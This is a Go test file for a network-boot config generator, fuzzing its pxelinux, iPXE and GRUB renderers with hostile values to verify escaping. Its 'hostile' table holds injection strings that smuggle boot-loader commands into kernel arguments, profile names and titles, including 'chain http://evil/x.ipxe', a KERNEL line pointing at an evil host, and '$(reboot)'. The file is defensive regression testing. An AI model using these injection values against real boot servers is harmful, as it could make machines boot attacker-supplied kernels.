package boot

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

// FuzzRender renders decisions whose every string is hostile (profile and
// distro names, kernel and initrd URLs, kernel arguments, the reason and
// the title) with the pxelinux, iPXE and GRUB renderers, and reads each
// config back the way its boot loader does (loaders_fuzz_test.go). Whatever
// the values, a config must have exactly the lines, commands and menu
// entries of the same decision with plain values; labels must be single
// words, unique, and the targets of DEFAULT and goto; every kernel argument
// must arrive as the same argument (or, where the loader cannot carry it,
// not at all), and nothing else may arrive as one.
func FuzzRender(f *testing.F) {
	kernel := "http://10.0.0.1/distros/rocky9/images/pxeboot/vmlinuz"
	initrd := "http://10.0.0.1/distros/rocky9/images/pxeboot/initrd.img"
	cmdline := "inst.repo=http://10.0.0.1/distros/rocky9/ inst.ks=http://10.0.0.1/ks/TOKEN console=ttyS0"
	// The decisions of the golden files (testdata/), then hostile values:
	// each seed is a way into one of the three languages.
	for _, a := range []Action{ActionInstall, ActionMenu, ActionLocal, ActionIgnore} {
		f.Add(byte(a)|0x30, "web", "db", "rocky9", kernel, initrd, cmdline, "registered: install profile web", "kickstand: 52:54:00:12:34:56")
	}
	// A machine with a static address (install-static): ip= and nameserver=.
	static := "inst.repo=http://10.0.0.1/distros/rocky9/ inst.ks=http://10.0.0.1/ks/TOKEN " +
		"ip=10.0.0.5::10.0.0.1:255.255.255.0:web1.example.com::none nameserver=10.0.0.2 nameserver=10.0.0.3 console=ttyS0"
	f.Add(byte(ActionInstall)|0x20, "web", "db", "rocky9", kernel, initrd, static, "registered: install profile web", "kickstand: 52:54:00:12:34:56")
	for _, h := range hostile {
		for _, a := range []Action{ActionInstall, ActionMenu} {
			f.Add(byte(a)|0x10, h.profile, "db", or(h.distro, "rocky9"), or(h.kernel, kernel), or(h.initrd, initrd),
				or(h.cmdline, cmdline), or(h.reason, "r"), or(h.title, "kickstand: 52:54:00:12:34:56"))
		}
	}
	f.Fuzz(func(t *testing.T, flags byte, profile0, profile1, distro, kernel, initrd, cmdline, reason, title string) {
		d := fuzzDecision(flags, profile0, profile1, distro, kernel, initrd, cmdline, reason)
		plain := plainTwin(d)
		checkPXELinux(t, d, RenderPXELinux(d, title), RenderPXELinux(plain, "t"))
		checkIPXE(t, d, RenderIPXE(d, title), RenderIPXE(plain, "t"))
		checkGRUB(t, d, title, RenderGRUB(d, title), RenderGRUB(plain, "t"))
	})
}

// hostile are values that got into the configs before the renderers
// escaped them (each a way into one of the three languages); empty fields
// take plain values.
var hostile = []struct{ name, profile, distro, kernel, initrd, cmdline, reason, title string }{
	{name: "newline in kernel arguments, pxelinux", profile: "web", cmdline: "console=ttyS0\nKERNEL http://evil/vmlinuz"},
	{name: "newline in kernel arguments, iPXE", profile: "web", cmdline: "console=ttyS0\nchain http://evil/x.ipxe"},
	{name: "&& in kernel arguments", profile: "web", cmdline: "quiet && chain http://evil/x.ipxe"},
	{name: "# in kernel arguments", profile: "web", cmdline: "quiet # rest of the line lost"},
	{name: "trailing backslash in kernel arguments", profile: "web", cmdline: `quiet\`},
	{name: "quotes in kernel arguments", profile: "web", cmdline: "a'b 'c' ' ; reboot ; '"},
	{name: "NUL in kernel arguments", profile: "web", cmdline: "quiet\x00' ; reboot ; '"},
	{name: "CR LF in kernel arguments", profile: "web", cmdline: "ro\r\nLABEL evil"},
	{name: "kernel arguments past fgets' 4096 bytes", profile: "web", cmdline: strings.Repeat("a", 4085) + " KERNEL http://evil/vmlinuz"},
	{name: "newline in a profile name", profile: "web\nLABEL evil\n  KERNEL http://evil/vmlinuz", distro: "d"},
	{name: "&& in a profile name", profile: "web && chain http://evil/x", distro: "d"},
	{name: "space in a profile name", profile: "a b", distro: "d"},
	{name: "a profile name past fgets' 4096 bytes", profile: strings.Repeat("\n", 1500) + "x", distro: "d"},
	{name: "GRUB syntax in names", profile: "x} menuentry 'evil' {", distro: "d'"},
	{name: "# in names", profile: "#!ipxe", distro: "#"},
	{name: "$ in names", profile: "${target}", distro: "$(reboot)"},
	{name: "spaces in paths", profile: "web", kernel: "http://h/vmlinuz initrd=http://evil/i", initrd: "http://h/a b,c.img"},
	{name: "URLs that are syntax", profile: "web", kernel: "&&", initrd: "#x"},
	{name: "newlines in reason and title", profile: "web", reason: "ok\nDEFAULT evil\n#!ipxe\nchain http://evil", title: "t\nUI evil.c32"},
	{name: "trailing backslash in reason, && in title", profile: "web", reason: `trailing backslash\`, title: "x && shell"},
	{name: "backslash and space ending a title", profile: "web", title: `kickstand\ `},
}

// TestRenderHostileValues is the regression test of the renderers'
// escaping: each hostile value, in an install and in a menu, through the
// checks of FuzzRender.
func TestRenderHostileValues(t *testing.T) {
	kernel := "http://10.0.0.1/distros/rocky9/images/pxeboot/vmlinuz"
	initrd := "http://10.0.0.1/distros/rocky9/images/pxeboot/initrd.img"
	for _, h := range hostile {
		for _, a := range []Action{ActionInstall, ActionMenu} {
			d := fuzzDecision(byte(a)|0x10, h.profile, "db", or(h.distro, "rocky9"), or(h.kernel, kernel), or(h.initrd, initrd), or(h.cmdline, "quiet"), or(h.reason, "r"))
			title, plain := or(h.title, "kickstand: 52:54:00:12:34:56"), plainTwin(d)
			t.Run(h.name+"/"+a.String(), func(t *testing.T) {
				t.Run("pxelinux", func(t *testing.T) { checkPXELinux(t, d, RenderPXELinux(d, title), RenderPXELinux(plain, "t")) })
				t.Run("iPXE", func(t *testing.T) { checkIPXE(t, d, RenderIPXE(d, title), RenderIPXE(plain, "t")) })
				t.Run("GRUB", func(t *testing.T) { checkGRUB(t, d, title, RenderGRUB(d, title), RenderGRUB(plain, "t")) })
			})
		}
	}
}

func or(s, def string) string {
	if s == "" {
		return def
	}
	return s
}

// fuzzDecision makes a decision of action flags&3 with one install, or two
// when flags&0x10 is set and the profile names differ; flags&4 and flags&8
// choose the GRUB dialect. As in a decision of Decide, profiles are unique
// (the store's key) and kernel and initrd URLs never empty.
func fuzzDecision(flags byte, profile0, profile1, distro, kernel, initrd, cmdline, reason string) Decision {
	d := Decision{Action: Action(flags & 3), Reason: reason, GRUB: GRUBDialect{LinuxEFI: flags&4 != 0, TFTP: flags&8 != 0}}
	if flags&0x20 != 0 {
		d.BootIF = "01-52-54-00-12-34-56"
	}
	if d.Action != ActionInstall && d.Action != ActionMenu {
		return d
	}
	kernel, initrd = or(kernel, "http://h/k"), or(initrd, "http://h/i")
	d.Installs = []Install{{Profile: profile0, Distro: distro, Kernel: kernel, Initrd: initrd, Cmdline: cmdline}}
	if flags&0x10 != 0 && profile1 != profile0 {
		d.Installs = append(d.Installs, Install{Profile: profile1, Distro: distro, Kernel: kernel + "2", Initrd: initrd, Cmdline: cmdline + " x"})
	}
	return d
}

// plainTwin is d with plain values in place of every string.
func plainTwin(d Decision) Decision {
	p := Decision{Action: d.Action, Reason: "r", GRUB: d.GRUB, BootIF: d.BootIF}
	for i := range d.Installs {
		p.Installs = append(p.Installs, Install{Profile: fmt.Sprint("p", i), Distro: "d", Kernel: "http://h/k", Initrd: "http://h/i", Cmdline: "a"})
	}
	return p
}

// kernelArgs are the arguments a command line holds: split at spaces and
// control characters, as the loaders and the kernel would split them.
func kernelArgs(cmdline string) []string {
	return strings.FieldsFunc(cmdline, func(r rune) bool { return r <= ' ' || r == 0x7f })
}

// withBootIF is args as a loader passes them on: with BOOTIF=bootIF
// added, unless bootIF is empty or the command line names a BOOTIF itself.
func withBootIF(args []string, bootIF string) []string {
	if bootIF == "" || hasArg(args, "BOOTIF") {
		return args
	}
	return append(slices.Clip(args), "BOOTIF="+bootIF)
}

// checkURL fails unless u, written for the loaders as written, is one
// plain word that names the same resource as want.
func checkURL(t *testing.T, what, u, want string) {
	t.Helper()
	if strings.IndexFunc(u, func(r rune) bool { return r <= ' ' || r >= 0x7f }) >= 0 || strings.ContainsAny(u, "\"'\\$`") {
		t.Fatalf("%s %q (from %q) is not a plain URL", what, u, want)
	}
	if percentDecode(u) != percentDecode(want) {
		t.Fatalf("%s %q names another resource than %q", what, u, want)
	}
}

// percentDecode decodes the valid %XX sequences of s.
func percentDecode(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] == '%' && i+2 < len(s) && isHex(s[i+1]) && isHex(s[i+2]) {
			b.WriteByte(unhex(s[i+1])<<4 | unhex(s[i+2]))
			i += 2
			continue
		}
		b.WriteByte(s[i])
	}
	return b.String()
}

func isHex(c byte) bool { return '0' <= c && c <= '9' || 'a' <= c && c <= 'f' || 'A' <= c && c <= 'F' }

func unhex(c byte) byte {
	switch {
	case c <= '9':
		return c - '0'
	case c <= 'F':
		return c - 'A' + 10
	}
	return c - 'a' + 10
}

func checkPXELinux(t *testing.T, d Decision, cfg, plainCfg []byte) {
	t.Helper()
	got, want := readPXELinux(cfg), readPXELinux(plainCfg)
	keywords := func(lines []pxelinuxLine) []string {
		var k []string
		for _, l := range lines {
			k = append(k, l.keyword)
		}
		return k
	}
	if !slices.Equal(keywords(got), keywords(want)) {
		t.Fatalf("pxelinux directives %q, want %q:\n%s", keywords(got), keywords(want), cfg)
	}
	labels := map[string]bool{}
	install := -1
	for i, l := range got {
		if l.cut {
			t.Fatalf("pxelinux line %d is longer than fgets reads at once:\n%s", i, cfg)
		}
		switch l.keyword {
		case "LABEL":
			if strings.ContainsAny(l.rest, syslinuxSpace) || l.rest == "" || labels[l.rest] {
				t.Fatalf("pxelinux label %q is not one new word:\n%s", l.rest, cfg)
			}
			labels[l.rest] = true
			if want[i].rest != "local" {
				install++
			}
		case "KERNEL", "INITRD":
			u := d.Installs[install].Kernel
			if l.keyword == "INITRD" {
				u = d.Installs[install].Initrd
			}
			if l.length <= syslinuxMaxLine-2 { // else cut, and a URL cut short fails to boot
				checkURL(t, "pxelinux "+l.keyword, l.rest, u)
			}
			if strings.ContainsAny(l.rest, syslinuxSpace) || l.keyword == "INITRD" && strings.Contains(l.rest, ",") {
				t.Fatalf("pxelinux %s %q is not one word (a comma separates initrds)", l.keyword, l.rest)
			}
		case "APPEND":
			args, all := strings.FieldsFunc(l.rest, func(r rune) bool { return r <= ' ' }), kernelArgs(d.Installs[install].Cmdline)
			if !slices.Equal(args, all[:min(len(args), len(all))]) || len(args) > len(all) {
				t.Fatalf("pxelinux arguments %q, want %q", args, all)
			}
			if len(args) < len(all) && l.length+len(all[len(args)]) <= syslinuxMaxLine-2 {
				t.Fatalf("pxelinux arguments %q cut short of %q", args, all)
			}
		}
	}
	for _, l := range got {
		if l.keyword == "DEFAULT" && !labels[l.rest] {
			t.Fatalf("pxelinux DEFAULT %q is no label:\n%s", l.rest, cfg)
		}
	}
}

func checkIPXE(t *testing.T, d Decision, script, plainScript []byte) {
	t.Helper()
	got, want := readIPXE(script), readIPXE(plainScript)
	shape := func(lines []ipxeLine) []string {
		var s []string
		for _, l := range lines {
			var names []string
			for _, c := range l.commands {
				names = append(names, strings.Join(c[:min(1, len(c))], ""))
			}
			s = append(s, fmt.Sprintf("%v:%q", l.hasLabel, names))
		}
		return s
	}
	if !strings.HasPrefix(string(script), "#!ipxe\n") || !slices.Equal(shape(got), shape(want)) {
		t.Fatalf("iPXE lines %q, want %q:\n%s", shape(got), shape(want), script)
	}
	labels, items := map[string]bool{}, map[string]bool{}
	install := -1
	for i, l := range got {
		if l.hasLabel {
			if l.label == "" || labels[l.label] {
				t.Fatalf("iPXE label %q is not one new word:\n%s", l.label, script)
			}
			labels[l.label] = true
		}
		for _, c := range l.commands {
			switch c[0] {
			case "item":
				if len(c) < 2 || items[c[1]] {
					t.Fatalf("iPXE item %q has no new label:\n%s", c, script)
				}
				items[c[1]] = true
			case "kernel":
				install++
				if d.Action == ActionMenu && !want[i-1].hasLabel {
					t.Fatalf("iPXE kernel command without its label:\n%s", script)
				}
				checkURL(t, "iPXE kernel", c[1], d.Installs[install].Kernel)
				var all []string
				for _, a := range kernelArgs(d.Installs[install].Cmdline) {
					if !strings.HasPrefix(a, "#") && a != "&&" && a != "||" && a != ";" {
						all = append(all, a)
					}
				}
				all = withBootIF(all, "01-${netX/mac:hexhyp}") // iPXE knows the NIC it booted from
				if len(c) < 3 || !strings.HasPrefix(c[2], "initrd=") || !slices.Equal(c[3:], all) {
					t.Fatalf("iPXE kernel command %q, want the arguments %q", c, all)
				}
			case "initrd":
				checkURL(t, "iPXE initrd", c[len(c)-1], d.Installs[install].Initrd)
			}
		}
	}
	if d.Action == ActionMenu {
		for label := range items {
			if !labels[label] {
				t.Fatalf("iPXE item %q has no label to go to:\n%s", label, script)
			}
		}
	}
}

func checkGRUB(t *testing.T, d Decision, title string, cfg, plainCfg []byte) {
	t.Helper()
	got, err := readGRUB(cfg)
	if err != nil {
		t.Fatalf("GRUB config: %v:\n%s", err, cfg)
	}
	want, err := readGRUB(plainCfg)
	if err != nil {
		t.Fatalf("plain GRUB config: %v:\n%s", err, plainCfg)
	}
	shape := func(commands [][]grubWord) []string {
		var s []string
		for _, c := range commands {
			s = append(s, fmt.Sprintf("%s/%d", c[0].unquoted, len(c)))
		}
		return s
	}
	// Argument counts differ only on the kernel line.
	gotShape, wantShape := shape(got), shape(want)
	for i := range min(len(gotShape), len(wantShape)) {
		if got[i][0].unquoted == "linux" || got[i][0].unquoted == "linuxefi" {
			gotShape[i], wantShape[i] = got[i][0].unquoted, want[i][0].unquoted
		}
	}
	if !slices.Equal(gotShape, wantShape) {
		t.Fatalf("GRUB commands %q, want %q:\n%s", gotShape, wantShape, cfg)
	}
	ids := map[string]bool{}
	install := -1
	for _, c := range got {
		switch c[0].text {
		case "echo":
			if c[1].text != oneLineText(title) {
				t.Fatalf("GRUB echo %q, want %q", c[1].text, title)
			}
		case "menuentry":
			if c[2].text != "--id" || ids[c[3].text] || c[4].unquoted != "{" {
				t.Fatalf("GRUB menuentry %q", c)
			}
			ids[c[3].text] = true
			if c[3].text != "local" {
				install++
				in := d.Installs[install]
				if want := oneLineText("Install " + in.Profile + " (" + in.Distro + ")"); c[1].text != want {
					t.Fatalf("GRUB menuentry title %q, want %q", c[1].text, want)
				}
			}
		case "linux", "linuxefi":
			if i := d.Installs[max(install, 0)]; !slices.Equal(grubTexts(c[2:]), withBootIF(kernelArgs(i.Cmdline), d.BootIF)) {
				t.Fatalf("GRUB kernel arguments %q, want %q", grubTexts(c[2:]), withBootIF(kernelArgs(i.Cmdline), d.BootIF))
			}
		}
	}
	for _, c := range got {
		if c[0].text == "set" && strings.HasPrefix(c[1].text, "default=") && !ids[strings.TrimPrefix(c[1].text, "default=")] {
			t.Fatalf("GRUB %q names no menu entry:\n%s", c[1].text, cfg)
		}
	}
}

func grubTexts(words []grubWord) []string {
	var s []string
	for _, w := range words {
		s = append(s, w.text)
	}
	return s
}

// oneLineText is s as a line of display text: control characters become
// spaces, and final backslashes and spaces, which could join the next line,
// go.
func oneLineText(s string) string {
	return strings.TrimRight(strings.Map(func(r rune) rune {
		if r < ' ' || r == 0x7f {
			return ' '
		}
		return r
	}, s), `\ `)
}
